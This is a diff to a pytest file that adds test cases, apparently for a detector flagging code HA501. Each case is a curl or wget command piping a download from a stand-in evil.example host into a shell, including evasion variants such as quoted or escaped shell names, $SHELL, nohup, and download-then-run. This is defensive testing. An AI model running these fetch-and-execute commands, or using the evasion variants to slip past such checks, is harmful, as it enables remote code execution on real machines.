@@ -97,6 +97,11 @@ _LONG_URL = "https://evil.example/" + "q1w2e3r4" * 40 + "/x.sh"
 
 @pytest.mark.parametrize("text,code", [
     (f"curl -s {EVIL} | /bin/sh", "HA501"),
+    # round 9: other shells, a quoted or escaped name, $SHELL, a prefix command, download; then run
+    (f"curl -s {EVIL} | ash", "HA501"), (f"curl -s {EVIL} | busybox sh", "HA501"),
+    (f"curl -s {EVIL} | 'bash'", "HA501"), (f"curl -s {EVIL} | s\\h", "HA501"), (f"curl -s {EVIL} | $SHELL", "HA501"),
+    (f"curl -s {EVIL} | command sh", "HA501"), (f"curl -s {EVIL} | nohup sh", "HA501"),
+    (f"curl -o /tmp/a.sh {EVIL}; sh /tmp/a.sh", "HA501"),
     (f"curl -s {EVIL} | /usr/local/bin/bash", "HA501"),
     (f"wget -qO- {EVIL} | /usr/bin/env bash", "HA501"),
     (f"curl -s {EVIL} | env sh -s", "HA501"),
